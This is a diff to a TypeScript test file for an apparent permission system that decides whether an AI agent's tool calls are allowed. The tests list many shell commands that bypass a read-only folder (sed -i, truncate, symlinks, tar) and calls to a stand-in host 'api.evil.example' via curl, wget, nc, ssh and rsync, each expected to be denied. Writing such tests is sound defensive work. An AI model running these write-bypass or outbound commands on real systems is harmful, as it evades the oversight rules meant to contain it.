@@ -1,8 +1,9 @@
 import { mkdirSync, writeFileSync } from 'node:fs'
 import { join } from 'node:path'
 import { expect, test } from 'vitest'
-import { createHost, defineTool, deletes, objectSchema, type Rule, reads, writes } from '../../src/index.ts'
+import { connects, createHost, defineTool, deletes, objectSchema, type Rule, reads, writes } from '../../src/index.ts'
 import { temporaryFolder } from '../support/example-host.ts'
+import { pythonHost, toolFile } from '../support/python-tools.ts'
 
 const declared = (name: string, touch: ReturnType<typeof reads>) =>
   defineTool({
@@ -19,9 +20,15 @@ const TOOLS = [
   declared('reader', reads('src/a.ts')),
   declared('saver', writes('src/new.ts')),
   declared('eraser', deletes('src/a.ts')),
+  declared('dialer', connects('api.evil.example')),
 ]
 
 type Call = readonly [string, object]
+
+const parametersOf = (name: string) => ({
+  type: 'object',
+  properties: { [name]: { type: 'string', description: 'What to use' } },
+})
 const shell = (command: string): Call => ['shell', { command }]
 
 async function decide(rules: readonly Rule[], calls: readonly Call[]): Promise<string[]> {
@@ -51,6 +58,21 @@ test('S4.2 one rule makes a folder read-only for every tool', async () => {
     shell('mv src/a.ts .'),
     shell("python3 -c \"open('src/a.ts', 'w')\""),
     ['run_code', { language: 'python', code: "open('src/a.ts', 'w')" }],
+    ['run_code', { language: 'bash', code: 'echo x >> src/a.ts' }],
+    ['shell', { command: 'echo x > src/a.ts', background: true }],
+    ['shell', { command: 'echo x > src/a.ts', live: true }],
+    shell('cd src && echo x > a.ts'),
+    shell('cat a.ts | tee src/a.ts'),
+    shell('git checkout -- src/a.ts'),
+    shell('git restore src/a.ts'),
+    shell('ln -sf ../b.ts src/a.ts'),
+    shell('cp b.ts src/'),
+    shell('find src -name "*.ts" -exec sed -i s/a/b/ {} +'),
+    shell("node -e \"require('fs').writeFileSync('src/a.ts', '')\""),
+    shell("perl -pi -e 's/a/b/' src/*.ts"),
+    shell('tar xf x.tar -C src'),
+    shell('x=src; echo y > "$x/a.ts"'),
+    shell("bash -c 'truncate -s0 src/a.ts'"),
   ]
   expect(await decide([rule], denied)).toEqual(denied.map(() => 'deny'))
   const free: Call[] = [['read_file', { path: 'src/a.ts' }], shell('cat src/a.ts'), shell('cp src/a.ts b.ts')]
@@ -104,4 +126,44 @@ test('the start says where a rule on the effect of tools leaves out commands', a
   })
   await host.close()
   expect(notices).toEqual([expect.stringMatching(/settings\.toml: the rule "src" .* write: writes = \["src\/\*\*"\]$/)])
+})
+
+test('S4.2 rules on hosts match every tool that connects', async () => {
+  const host = 'api.evil.example'
+  const calls: Call[] = [
+    ['dialer', {}],
+    shell(`curl https://${host}/x`),
+    shell(`wget -q http://${host}`),
+    shell(`git clone https://${host}/x.git`),
+    shell(`ssh me@${host} ls`),
+    shell(`nc ${host} 80`),
+    shell(`rsync -a src ${host}:/x`),
+    shell(`python3 -c "import urllib.request; urllib.request.urlopen('https://${host}')"`),
+    ['shell', { command: `curl ${host}`, background: true }],
+    ['run_code', { language: 'bash', code: `curl ${host}` }],
+  ]
+  const rules: Rule[] = [{ name: 'no', decision: 'deny', hosts: ['*.evil.example'] }]
+  expect(await decide(rules, calls)).toEqual(calls.map(() => 'deny'))
+  expect(await decide(rules, [shell('curl https://other.example')])).toEqual(['ask'])
+})
+
+test('S4.2 rules on effects match Python tools that declare what they touch', async () => {
+  const { host } = await pythonHost({
+    'a.py': toolFile('def look(path): return path\ndef drop(path): return path\ndef fetch(url): return url', {
+      look: { parameters: parametersOf('path'), effect: 'read', touches: { reads: ['path'] } },
+      drop: { parameters: parametersOf('path'), effect: 'write', touches: { deletes: ['path'] } },
+      fetch: { parameters: parametersOf('url'), effect: 'network', touches: { connects: ['url'] } },
+    }),
+  })
+  const decisionOf = async ([name, args]: Call) => (await host.check(name, args)).decision
+  const calls: Call[] = [
+    ['look', { path: 'src/a.ts' }],
+    ['drop', { path: 'src/a.ts' }],
+    ['fetch', { url: 'https://api.evil.example:8443/x' }],
+  ]
+  expect(await Promise.all(calls.map(decisionOf))).not.toContain('deny')
+  host.addRule({ name: 'no reads', decision: 'deny', reads: ['src/**'] })
+  host.addRule({ name: 'no deletes', decision: 'deny', deletes: ['src/**'] })
+  host.addRule({ name: 'no hosts', decision: 'deny', hosts: ['*.evil.example'] })
+  expect(await Promise.all(calls.map(decisionOf))).toEqual(['deny', 'deny', 'deny'])
 })
